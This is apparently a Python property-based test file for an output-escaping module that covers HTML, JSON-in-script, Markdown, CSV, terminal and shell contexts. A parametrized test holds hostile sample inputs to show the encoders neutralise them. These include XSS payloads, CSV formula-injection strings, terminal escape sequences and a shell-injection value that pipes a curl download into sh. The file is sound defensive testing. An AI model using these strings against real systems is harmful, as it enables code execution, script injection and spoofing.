"""The output-encoding layer: every encoder parses back to its input, and hostile strings stay inert."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import shlex
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ircreds import escape

# Random text, plus the characters each context cares about, so hypothesis hits them often.
HOSTILE = [
    *list("<>&\"'`|\\*_[](){}#!=+-@%$;:\t\r\n\x1b\x07\x9b\u2028\u2029\u202e "),
    "<!--",
    "</script>",
    "<script>",
    "\x1b[31m",
    "``",
    "\\u{a}",
    "\\x1b",
    "&amp;",
    "'",
]
texts = st.lists(st.one_of(st.text(), st.sampled_from(HOSTILE)), max_size=12).map("".join)
# html.parser and csv cannot carry lone surrogates or NUL through every step; the encoders can.
printable = st.lists(
    st.one_of(
        st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00")),
        st.sampled_from(HOSTILE),
    ),
    max_size=12,
).map("".join)

SETTINGS = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])


class _Text(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []
        self.tags: list[str] = []
        self.attr: str | None = None

    def handle_data(self, data: str) -> None:
        self.parts.append(data)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag == "span" and attrs:
            self.attr = attrs[0][1]

    def handle_comment(self, data: str) -> None:  # a comment in the output would be markup
        self.tags.append("!--")


def _parse_html(doc: str) -> _Text:
    parser = _Text()
    parser.feed(doc)
    parser.close()
    return parser


@SETTINGS
@given(printable)
def test_html_text_parses_back_to_the_same_text(value: str) -> None:
    out = escape.html_text(value)
    assert html.unescape(out) == value
    parsed = _parse_html(f"<p>{out}</p>")
    assert parsed.tags == ["p"]
    # html.parser (like browsers) turns CR and CRLF into LF inside text nodes? It does not; compare as is.
    assert "".join(parsed.parts) == value


@SETTINGS
@given(printable)
def test_html_attr_parses_back_to_the_same_value(value: str) -> None:
    parsed = _parse_html(f'<span title="{escape.html_attr(value)}">x</span>')
    assert parsed.tags == ["span"]
    assert parsed.attr == value


@SETTINGS
@given(
    st.recursive(
        texts | st.integers() | st.booleans() | st.none(),
        lambda c: st.lists(c, max_size=4) | st.dictionaries(texts, c, max_size=4),
        max_leaves=12,
    )
)
def test_script_json_parses_back_and_never_closes_the_script(value: object) -> None:
    body = escape.script_json(value)
    assert json.loads(body) == value
    assert not re.search("[<>&\u2028\u2029\ud800-\udfff]", body)
    page = f'<script type="application/json">{body}</script><p>after</p>'
    parsed = _parse_html(page)
    assert parsed.tags == ["script", "p"]
    assert json.loads(parsed.parts[0]) == value


@SETTINGS
@given(texts)
def test_md_text_and_md_code_round_trip(value: str) -> None:
    for out in (escape.md_text(value), escape.md_code(value)):
        assert escape.md_unescape(out) == value
        assert "\n" not in out
        assert "\r" not in out


plain_cells = printable.filter(
    lambda v: v and v == v.strip() and not re.search("[\x00-\x1f\x7f-\x9f\u2028\u2029]", v)
)


@SETTINGS
@given(plain_cells)
def test_md_renders_as_the_same_text_and_no_markup_in_a_table_cell(value: str) -> None:
    mistune = pytest.importorskip("mistune")
    render = mistune.create_markdown(escape=False, plugins=["table", "strikethrough"])
    cell = ["table", "thead", "tr", "th", "tbody", "tr", "td"]
    for out in (escape.md_text(value), escape.md_code(value)):
        parsed = _parse_html(render(f"| h |\n|---|\n| {out} |\n"))
        assert parsed.tags == ([*cell, "code"] if out.startswith("`") else cell)
        assert "".join(parsed.parts).split("h", 1)[1].strip() == value


@SETTINGS
@given(texts)
def test_md_text_leaves_no_unescaped_markup_character(value: str) -> None:
    out = escape.md_text(value)
    # remove every backslash escape; what remains holds nothing that opens inline markup
    bare = re.sub(r"\\u\{[0-9a-f]+\}", "", re.sub(r"\\[!-/:-@\[-`{-~]", "", out))
    assert not re.search(r"[\\`*_\[\]<>&!|~$]", bare)
    assert not re.match(r"[#+\-=]|\d{1,9}[.)](?:[ \t]|$)", out), "a block could start"


@SETTINGS
@given(texts)
def test_md_code_is_one_code_span_a_backtick_cannot_close(value: str) -> None:
    out = escape.md_code(value)
    if out.startswith("`"):
        fence = re.match("`+", out).group()
        inner = out[len(fence) : -len(fence)]
        assert out.endswith(fence)
        assert fence not in inner  # no run as long as the fence inside: nothing can close it early


@SETTINGS
@given(st.lists(printable, min_size=1, max_size=5))
def test_csv_cells_read_back_and_never_start_a_formula(values: list[str]) -> None:
    buf = io.StringIO(newline="")
    csv.writer(buf).writerow([escape.csv_cell(v) for v in values])
    (row,) = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert [escape.csv_uncell(c) for c in row] == values
    assert not any(c.startswith(escape.CSV_RISKY) for c in row)


@SETTINGS
@given(texts)
def test_term_round_trips_and_leaves_no_control_character(value: str) -> None:
    out = escape.term(value)
    assert escape.term_unescape(out) == value
    assert not escape.term_needs_escape(out)
    multi = escape.term(value, multiline=True)
    assert escape.term_unescape(multi) == value
    assert not escape.term_needs_escape(multi.replace("\n", ""))
    assert not escape.term_needs_escape(escape.term(value, reversible=False))  # the output safety net


@SETTINGS
@given(st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00")))
def test_term_leaves_text_without_controls_unchanged_unless_a_backslash_escape_could_read(value: str) -> None:
    if not escape.term_needs_escape(value) and "\\" not in value:
        assert escape.term(value) == value


@SETTINGS
@given(
    st.lists(st.text(st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",))), max_size=6)
)
def test_shell_join_splits_back_to_the_same_words(words: list[str]) -> None:
    assert shlex.split(escape.shell_join(words)) == words
    for word in words:
        assert shlex.split(escape.shell_quote(word)) == [word]


@SETTINGS
@given(texts)
def test_plot_text_decodes_to_the_same_text_and_holds_no_tag_or_template(value: str) -> None:
    out = escape.plot_text(value, limit=None)
    assert html.unescape(out) == value
    assert not re.search("[<>%\"']", out)


@SETTINGS
@given(texts, st.integers(min_value=1, max_value=50))
def test_truncate_keeps_a_prefix_and_says_how_much_was_cut(value: str, limit: int) -> None:
    out = escape.truncate(value, limit)
    if len(value) <= limit:
        assert out == value
    else:
        keep = max(limit - 1, 1)
        assert out.startswith(value[:keep])
        assert out.endswith(f"(+{len(value) - keep:,} chars)")


@pytest.mark.parametrize(
    ("encoder", "hostile", "inert"),
    [
        (escape.html_text, "<!--<script>alert(1)</script>", "&lt;!--&lt;script&gt;"),
        (escape.script_json, "<!--<script>", "\\u003c!--\\u003cscript\\u003e"),
        (escape.md_text, "<img src=x onerror=alert(1)>", "\\<img"),
        (escape.md_code, "bucket`name`", "`` bucket`name` ``"),
        (escape.md_code, "bucket`name`<b>", "bucket\\`name\\`\\<b\\>"),
        (escape.csv_cell, '=HYPERLINK("http://203.0.113.9","x")', "'="),
        (escape.csv_cell, "@SUM(1+1)*cmd|' /C calc'!A0", "'@"),
        (escape.term, "203.0.113.50\x1b[2J\x1b]0;owned\x07", "203.0.113.50\\x1b[2J\\x1b]0;owned\\x07"),
        (escape.term, "a\u202eexe.txt", "a\\u202eexe.txt"),
        (
            escape.shell_quote,
            "svc; curl https://203.0.113.9/x | sh #",
            "'svc; curl https://203.0.113.9/x | sh #'",
        ),
        (
            escape.plot_text,
            '<a href="javascript:alert(1)">x</a>',
            "&lt;a href=&#34;javascript:alert(1)&#34;&gt;",
        ),
    ],
)
def test_encoder_makes_a_hostile_string_inert(encoder, hostile: str, inert: str) -> None:
    assert inert in encoder(hostile)


def test_truncate_of_a_huge_value_costs_only_the_display() -> None:
    huge = "A" * 50_000_000
    out = escape.html_text(huge, limit=escape.DISPLAY_LIMIT)
    assert len(out) < 300
    assert "+49,999,801 chars" in out
